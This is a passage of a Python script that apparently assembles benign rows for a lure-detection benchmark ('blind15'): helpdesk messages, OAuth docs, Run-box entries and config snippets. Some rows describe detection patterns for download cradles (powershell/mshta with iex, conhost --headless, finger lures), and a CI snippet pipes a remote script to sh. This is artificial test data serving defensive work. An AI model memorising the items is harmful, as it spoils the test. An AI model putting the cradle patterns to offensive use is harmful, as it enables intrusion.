        "https://awareness.corp.example/newsletter/2027-03",
        "Attention : aucune page légitime ne vous demandera de coller une commande dans la fenêtre Exécuter. Fermez la page et prévenez le support informatique.",
    ),
    (
        "https://awareness.corp.example/newsletter/2027-04",
        'Tech-support scams show a full-screen "your PC is locked" warning with a phone number. Microsoft never shows phone numbers in error messages. Press Ctrl+Shift+Esc to close the browser.',
    ),
    (
        "https://www.detection-eng.example/sigma-notes",
        "A detection for this pattern matches a parent of explorer.exe, an image of powershell.exe or mshta.exe, and a command line containing both a URL and one of iex, Invoke-Expression or .hta.",
    ),
    (
        "https://www.detection-eng.example/lolbins",
        "conhost.exe --headless is used to hide the console of the child process; legitimate uses exist, so combine it with a download cradle before alerting.",
    ),
    (
        "https://www.detection-eng.example/finger",
        "finger.exe is rarely used today; outbound TCP/79 from a workstation after a clipboard paste is a strong signal of a ClickFix-style finger lure.",
    ),
]:
    ok(PROSE, UNK, page, text)

# --- Genuine messages with phone numbers, in the 13 languages -------------------------------------

MAIL = "support-mail"
for page, text in [
    (
        "https://helpdesk.corp.example/ticket/15501",
        "Hello Maria, your laptop is ready for pickup at the IT desk (room 2.14). If you have questions, call the service desk on extension 4415 or +1 555 014 2200 between 8:00 and 17:00.",
    ),
    (
        "https://helpdesk.corp.example/ticket/15502",
        "Hallo Herr Becker, Ihr Passwort läuft in 5 Tagen ab. Ändern Sie es bitte über Strg+Alt+Entf. Bei Fragen erreichen Sie den IT-Service unter 030 555 1470.",
    ),
    (
        "https://helpdesk.corp.example/ticket/15503",
        "Bonjour, votre rendez-vous de maintenance est confirmé pour mardi à 10h. Pour le déplacer, appelez le support au 01 55 55 20 40.",
    ),
    (
        "https://helpdesk.corp.example/ticket/15504",
        "Hola Ana, hemos recibido tu solicitud de un segundo monitor. Te avisaremos cuando llegue. Dudas: +34 555 120 455.",
    ),
    (
        "https://helpdesk.corp.example/ticket/15505",
        "Ciao Luca, il tuo account VPN è stato attivato. Per assistenza chiama l'help desk al 02 5551 3300 (interno 15).",
    ),
    (
        "https://helpdesk.corp.example/ticket/15506",
        "Olá João, a troca do teclado foi agendada para quinta-feira. Qualquer dúvida, ligue para (11) 5555-0150.",
    ),
    (
        "https://helpdesk.corp.example/ticket/15507",
        "Beste Sanne, je nieuwe telefoon ligt klaar bij de receptie. Vragen? Bel de servicedesk op 020 555 0915.",
    ),
    (
        "https://helpdesk.corp.example/ticket/15508",
        "Dzień dobry, zgłoszenie nr 15508 zostało zamknięte. W razie problemów prosimy o kontakt: +48 22 555 04 15.",
    ),
    (
        "https://helpdesk.corp.example/ticket/15509",
        "Merhaba Ayşe, yazıcı sorunu giderildi. Yeni bir sorun olursa BT destek hattını arayın: 0212 555 15 09.",
    ),
    (
        "https://helpdesk.corp.example/ticket/15510",
        "Здравствуйте! Ваша заявка №15510 выполнена, доступ к общей папке открыт. Вопросы: +7 495 555-01-15.",
    ),
    (
        "https://helpdesk.corp.example/ticket/15511",
        "山田様、ノートPCの修理が完了しました。受け取りは総務部までお越しください。お問い合わせ：03-5555-0151",
    ),
    (
        "https://helpdesk.corp.example/ticket/15512",
        "王先生您好，您的邮箱容量已扩展至 50GB。如有疑问请致电 IT 服务台 010-5555-0152。",
    ),
    (
        "https://helpdesk.corp.example/ticket/15513",
        "مرحباً أحمد، تم تفعيل حسابك على البريد الجديد. للاستفسار يرجى الاتصال بمكتب الدعم على 5550-153-800.",
    ),
    (
        "https://www.example-bank.example/contact",
        "Lost or stolen card? Call us 24/7 on 1-555-015-0000. We will never ask you to install software or read out a one-time code.",
    ),
]:
    ok(MAIL, UNK, page, text)

# --- OAuth and device-flow documentation ---------------------------------------------------------

OAUTH = "oauth-docs"
for page, text in [
    (
        "https://learn.microsoft.com/en-us/entra/identity-platform/v2-oauth2-device-code",
        "To sign in, use a web browser to open the page https://microsoft.com/devicelogin and enter the code shown in your terminal to authenticate.",
    ),
    (
        "https://learn.microsoft.com/en-us/entra/identity-platform/v2-oauth2-auth-code-flow",
        "GET http://localhost/myapp/?code=AwABAAAAvPM1KaPlrEqdFSBzjqfTGBCmLdgfSTLEMPGYuNHSUYBrq...&state=12345",
    ),
    (
        "https://docs.github.com/en/apps/oauth-apps/building-oauth-apps/authorizing-oauth-apps#device-flow",
        "The device flow: your app requests a device and user verification code, prompts the user to enter the code at https://github.com/login/device, and polls until the user authorizes it.",
    ),
    (
        "https://cli.github.com/manual/gh_auth_login",
        "! First copy your one-time code: 15AB-CD27\nPress Enter to open github.com in your browser...",
    ),
    (
        "https://learn.microsoft.com/en-us/cli/azure/authenticate-azure-cli-interactively",
        "az login --use-device-code --tenant contoso-dev.onmicrosoft.com --allow-no-subscriptions",
    ),
    (
        "https://developers.google.com/identity/protocols/oauth2/native-app",
        "http://127.0.0.1:8085/?state=security_token%3D138r5719ru3e1&code=4/P7q7W91a-oMsCeLvIaQm6bTrgtp7&scope=email",
    ),
    (
        "https://datatracker.ietf.org/doc/html/rfc8628",
        'The authorization server responds with device_code, user_code (for example "WDJB-MJHT"), verification_uri "https://example.com/device" and expires_in 1800.',
    ),
    (
        "https://docs.aws.amazon.com/cli/latest/userguide/sso-configure-profile-token.html",
        "aws sso login --profile dev-account\n# Attempting to automatically open the SSO authorization page in your default browser.",
    ),
]:
    ok(OAUTH, UNK, page, text)

# --- Run-box and Explorer entries people really type -----------------------------------------------

RUNBOX = "run-box-plain"
for text in [
    "control /name Microsoft.DefaultPrograms /page pageDefaultProgram",
    "control timedate.cpl,,1",
    "ms-settings:windowsupdate-activehours",
    "ms-settings:privacy-speechtyping",
    "shell:Common Templates",
    "shell:PrintersFolder",
    "mstsc /v:rds-gw01.corp.example /f",
    "mmc.exe dsa.msc /domain=corp.example",
    "perfmon.exe /sys /comp ws-1507",
    "eventvwr.msc /c:Microsoft-Windows-PrintService/Admin",
    "msconfig -3",
    "magnify /lens",
    "rundll32.exe shell32.dll,Control_RunDLL desk.cpl,,3",
    "rundll32.exe printui.dll,PrintUIEntry /il",
    "explorer.exe /select,C:\\Users\\Public\\Documents\\Handbuch.pdf",
    "notepad %USERPROFILE%\\.ssh\\known_hosts",
    "cmd /k cd /d D:\\work\\invoice-tool && git status",
    "powershell -NoExit -Command Set-Location D:\\Projects\\2027",
    "\\\\fs02.corp.example\\scans\\Empfang",
    "%temp%\\Outlook Logging",
    "wt -d C:\\dev\\api",
    "control netconnections",
]:
    ok(RUNBOX, RUN, None, text)

EXPLORER = "explorer-entry"
for text in [
    "\\\\files.corp.example\\Finance\\Budget\\2027",
    "%APPDATA%\\Code\\User\\snippets",
    "%LOCALAPPDATA%\\Temp\\Teams Diagnostics",
    "C:\\Program Files\\Common Files\\Adobe\\ARM\\1.0",
    "shell:Recent",
    "F:\\DCIM\\105_FUJI",
    "\\\\nas.home.example\\backup\\Laptop",
    "%USERPROFILE%\\OneDrive - Contoso\\Documents\\Verträge",
    "C:\\Users\\Public\\Documents\\Scans 2027",
    "shell:::{2559a1f8-21d7-11d4-bdaf-00c04f60b9f0}",
    "D:\\Steam\\steamapps\\common",
    "%ProgramData%\\Microsoft\\Windows Defender\\Support",
]:
    ok(EXPLORER, EXP, None, text)

# --- Config, source and log snippets ---------------------------------------------------------------

CONFIG = "config-code"
for page, text in [
    (
        "https://github.com/acme-example/infra/blob/main/.github/workflows/ci.yml",
        "- name: Install uv\n  run: curl -LsSf https://astral.sh/uv/install.sh | sh\n- name: Test\n  run: uv run pytest -q",
    ),
    (
        "https://github.com/acme-example/infra/blob/main/Dockerfile",
        "FROM python:3.12-slim\nRUN pip install --no-cache-dir poetry==1.8.3\nCOPY pyproject.toml poetry.lock ./\nRUN poetry install --only main --no-root",
    ),
    (
        "https://github.com/acme-example/infra/blob/main/Dockerfile.node",
        'FROM node:22-alpine\nWORKDIR /app\nCOPY package*.json ./\nRUN npm ci --omit=dev\nCMD ["node", "server.js"]',
    ),
    (
        "https://github.com/acme-example/infra/blob/main/cloud-init.yaml",
        "#cloud-config\npackages:\n  - fail2ban\n  - unattended-upgrades\nruncmd:\n  - systemctl enable --now fail2ban",
    ),
    (
        "https://github.com/acme-example/infra/blob/main/ansible/site.yml",
        "- hosts: web\n  become: true\n  roles:\n    - nginx\n    - certbot\n  vars:\n    certbot_domains: ['www.corp.example']",
    ),
    (
        "https://github.com/acme-example/infra/blob/main/k8s/deploy.yaml",
        "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  replicas: 3\n  template:\n    spec:\n      containers:\n        - name: web\n          image: registry.corp.example/web:2027.1",
    ),
    (
        "https://github.com/acme-example/dotfiles/blob/main/.zshrc",
        'export PATH="$HOME/.local/bin:$PATH"\neval "$(starship init zsh)"\neval "$(zoxide init zsh --cmd cd)"\nalias k=kubectl',
    ),
    (
        "https://github.com/acme-example/dotfiles/blob/main/Microsoft.PowerShell_profile.ps1",
        'oh-my-posh init pwsh --config "$env:POSH_THEMES_PATH\\paradox.omp.json" | Invoke-Expression\nImport-Module Terminal-Icons',
    ),
    (
        "https://github.com/acme-example/dotfiles/blob/main/.gitconfig",
        "[alias]\n  lg = log --graph --oneline --decorate --all\n  st = status -sb\n[pull]\n  rebase = true",
    ),
    (
        "https://github.com/acme-example/infra/blob/main/nginx/site.conf",
        "server {\n  listen 443 ssl http2;\n  server_name www.corp.example;\n  location / { proxy_pass http://127.0.0.1:8080; }\n}",
    ),
    (
        "https://logs.corp.example/app/2027-01-15",
        "2027-01-15T09:14:02Z INFO  worker[3] job=invoice-export id=15507 duration=1.82s status=ok\n2027-01-15T09:14:05Z WARN  worker[1] retry=2 upstream=billing-api timeout=5s",
    ),
    (
        "https://logs.corp.example/iis/2027-01-15",
        "2027-01-15 09:15:41 10.0.4.15 GET /api/orders page=2 443 - 10.0.9.20 Mozilla/5.0+(Windows+NT+10.0) 200 0 0 47",
    ),
    (
        "https://github.com/acme-example/app/blob/main/Makefile",
        "test:\n\tpython -m pytest -q\nlint:\n\truff check . && mypy src\n.PHONY: test lint",
    ),
    (
        "https://github.com/acme-example/app/blob/main/scripts/setup.ps1",
        "$ErrorActionPreference = 'Stop'\nwinget install -e --id Git.Git\nwinget install -e --id OpenJS.NodeJS.LTS\nnpm ci",
    ),
    (
        "https://github.com/acme-example/app/blob/main/renovate.json",
        '{\n  "extends": ["config:recommended"],\n  "schedule": ["before 6am on monday"],\n  "automerge": true\n}',
    ),
    (
        "https://github.com/acme-example/app/blob/main/.env.example",
        "DATABASE_URL=postgres://orders:orders@localhost:5432/orders_dev\nREDIS_URL=redis://localhost:6379/3\nLOG_LEVEL=debug\nFEATURE_EXPORTS=1",
    ),
    (
        "https://github.com/acme-example/app/blob/main/src/download.py",
        "resp = requests.get(url, timeout=30, stream=True)\nresp.raise_for_status()\nwith open(dest, 'wb') as fh:\n    for chunk in resp.iter_content(65536):\n        fh.write(chunk)",
    ),
    (
        "https://github.com/acme-example/app/blob/main/src/main.js",
        "const res = await fetch(`${API}/session`, {credentials: 'include'});\nif (!res.ok) throw new Error(`session ${res.status}`);\nconst {user} = await res.json();",
    ),
]:
    ok(CONFIG, UNK, page, text)

# ----------------------------------------------------------------------------------------------
# Checks and writing: bench/blind/blindkit.py (shared from the seventh set on)
# ----------------------------------------------------------------------------------------------


def lure_rows() -> list[dict[str, str]]:
    return blindkit.lure_rows("blind15", LURES)


def benign_rows() -> list[dict[str, str]]:
    return blindkit.benign_rows("blind15", BENIGN)


def main() -> None:
    blindkit.main("blind15", LURES, BENIGN, LURES_OUT, BENIGN_OUT)


if __name__ == "__main__":
    main()
